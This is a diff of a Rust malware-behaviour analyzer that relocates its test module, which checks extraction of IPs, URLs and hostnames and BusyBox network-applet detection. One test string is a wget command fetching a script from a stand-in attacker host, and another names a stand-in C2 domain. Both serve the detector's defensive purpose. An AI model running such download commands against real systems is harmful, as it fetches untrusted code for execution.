@@ -1293,52 +1293,6 @@ fn scan_x86(code: &[u8], seg: &Segment, trap: &[u8; 2], found: &mut dyn FnMut(u3
     }
 }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn ipv4_filter() {
-        assert_eq!(ipv4s("connect to 203.0.113.7 now"), vec!["203.0.113.7"]);
-        assert!(ipv4s("192.168.1.1").is_empty());
-        assert!(ipv4s("255.255.255.0").is_empty());
-        assert!(ipv4s("kernel 2.6.36.4").is_empty());
-        assert!(ipv4s("v1.2.3.4.5").is_empty());
-        assert_eq!(ipv4s("dns 8.8.8.8"), vec!["8.8.8.8"]);
-    }
-
-    #[test]
-    fn url_filter() {
-        assert_eq!(
-            urls("wget http://evil.example.net/x.sh -O /tmp/x"),
-            vec!["http://evil.example.net/x.sh"]
-        );
-        assert!(urls("see http://www.busybox.net/ for help").is_empty());
-        assert!(urls("http://192.168.1.1/login").is_empty());
-        assert!(urls("http://%s/%s").is_empty());
-    }
-
-    #[test]
-    fn hostname_filter() {
-        assert_eq!(
-            hostname("update.c2.example.net").as_deref(),
-            Some("update.c2.example.net")
-        );
-        assert_eq!(hostname("www.openssl.org"), None);
-        assert_eq!(hostname("libc.so.6"), None);
-        assert_eq!(hostname("Config.Net"), None);
-    }
-
-    #[test]
-    fn busybox_identity() {
-        let data = b"xxBusyBox v1.22.1 (2014-01-01)\0\0[\0[[\0ash\0nc\0telnetd\0zcat\0\0";
-        let bb = busybox(data).unwrap();
-        assert_eq!(bb.version, "1.22.1");
-        assert_eq!(bb.applets, 6);
-        assert_eq!(bb.network_applets, vec!["nc", "telnetd"]);
-    }
-}
-
 // ---------------------------------------------------------------------------------------
 // the analyzer
 
@@ -1561,5 +1515,51 @@ impl crate::Analyzer for Behaviour {
 
     fn run_shared(&self, cx: &crate::Context, shared: &crate::Shared) -> crate::Output {
         self.analyse(cx, &shared.boot)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn ipv4_filter() {
+        assert_eq!(ipv4s("connect to 203.0.113.7 now"), vec!["203.0.113.7"]);
+        assert!(ipv4s("192.168.1.1").is_empty());
+        assert!(ipv4s("255.255.255.0").is_empty());
+        assert!(ipv4s("kernel 2.6.36.4").is_empty());
+        assert!(ipv4s("v1.2.3.4.5").is_empty());
+        assert_eq!(ipv4s("dns 8.8.8.8"), vec!["8.8.8.8"]);
+    }
+
+    #[test]
+    fn url_filter() {
+        assert_eq!(
+            urls("wget http://evil.example.net/x.sh -O /tmp/x"),
+            vec!["http://evil.example.net/x.sh"]
+        );
+        assert!(urls("see http://www.busybox.net/ for help").is_empty());
+        assert!(urls("http://192.168.1.1/login").is_empty());
+        assert!(urls("http://%s/%s").is_empty());
+    }
+
+    #[test]
+    fn hostname_filter() {
+        assert_eq!(
+            hostname("update.c2.example.net").as_deref(),
+            Some("update.c2.example.net")
+        );
+        assert_eq!(hostname("www.openssl.org"), None);
+        assert_eq!(hostname("libc.so.6"), None);
+        assert_eq!(hostname("Config.Net"), None);
+    }
+
+    #[test]
+    fn busybox_identity() {
+        let data = b"xxBusyBox v1.22.1 (2014-01-01)\0\0[\0[[\0ash\0nc\0telnetd\0zcat\0\0";
+        let bb = busybox(data).unwrap();
+        assert_eq!(bb.version, "1.22.1");
+        assert_eq!(bb.applets, 6);
+        assert_eq!(bb.network_applets, vec!["nc", "telnetd"]);
     }
 }
